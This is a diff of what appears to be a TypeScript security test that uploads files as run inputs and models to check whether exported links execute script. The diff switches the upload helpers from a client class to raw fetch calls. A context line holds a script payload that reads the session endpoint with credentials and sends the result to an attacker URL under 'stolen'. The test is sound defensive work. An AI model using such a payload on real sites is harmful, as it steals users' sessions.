@@ -6,7 +6,7 @@ import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { SlipwayClient } from '../../src/client/client.ts';
+import { z } from 'zod';
 import { consoleScene } from './console-scene.ts';
 
 const scene = consoleScene();
@@ -35,8 +35,17 @@ function script(): string {
   return `document.title = 'ran'; fetch('${attackersUrl()}ran'); fetch('${scene.local.url}/v1/session', { credentials: 'include' }).then((r) => r.text()).then((t) => fetch('${attackersUrl()}stolen?' + encodeURIComponent(t)))`;
 }
 
-function client(): SlipwayClient {
-  return new SlipwayClient({ baseUrl: scene.local.url, apiKey: scene.local.api_key });
+const answerModel = z
+  .object({ run_id: z.string(), presigned_url: z.string(), upload_url: z.string().nullable() })
+  .partial();
+
+/** Sends a request below the namespace's path. */
+async function send(method: 'POST' | 'PUT', path: string, body: object) {
+  const headers = { authorization: `Bearer ${scene.local.api_key}`, 'content-type': 'application/json' };
+  const url = `${scene.local.url}/v1/namespaces/${scene.local.namespace_id}/${path}`;
+  const response = await fetch(url, { method, headers, body: JSON.stringify(body) });
+  expect(response.ok, path).toBe(true);
+  return answerModel.parse(await response.json());
 }
 
 async function put(url: string, type: string, content: string): Promise<void> {
@@ -46,11 +55,7 @@ async function put(url: string, type: string, content: string): Promise<void> {
 
 /** Uploads the content as a run's input, and returns its link from the organization's export. */
 async function linkOfInput(type: string, content: string): Promise<string> {
-  const path = { namespace_id: scene.local.namespace_id, plugin_id: 'echo_1_2_0' };
-  const run = await client().post('/v1/namespaces/{namespace_id}/plugins/{plugin_id}/runs', {
-    path,
-    body: { input: { format: 'jsonl' } },
-  });
+  const run = await send('POST', 'plugins/echo_1_2_0/runs', { input: { format: 'jsonl' } });
   await put(run.presigned_url ?? '', type, content);
   return exportedLink(`runs/${run.run_id}/input`);
 }
@@ -58,11 +63,11 @@ async function linkOfInput(type: string, content: string): Promise<string> {
 /** Publishes content as a model. */
 async function linkOfModel(type: string, content: string): Promise<string> {
   const sha256 = createHash('sha256').update(content).digest('hex');
-  const path = { namespace_id: scene.local.namespace_id, name: `model-${sha256.slice(0, 8)}` };
+  const path = `models/model-${sha256.slice(0, 8)}`;
   const body = { sha256, size_bytes: content.length };
-  const { upload_url } = await client().put('/v1/namespaces/{namespace_id}/models/{name}', { path, body });
-  if (upload_url !== null) await put(upload_url, type, content);
-  await client().post('/v1/namespaces/{namespace_id}/models/{name}/confirm', { path, body });
+  const { upload_url } = await send('PUT', path, body);
+  if (upload_url) await put(upload_url, type, content);
+  await send('POST', `${path}/confirm`, body);
   return exportedLink(sha256);
 }
 
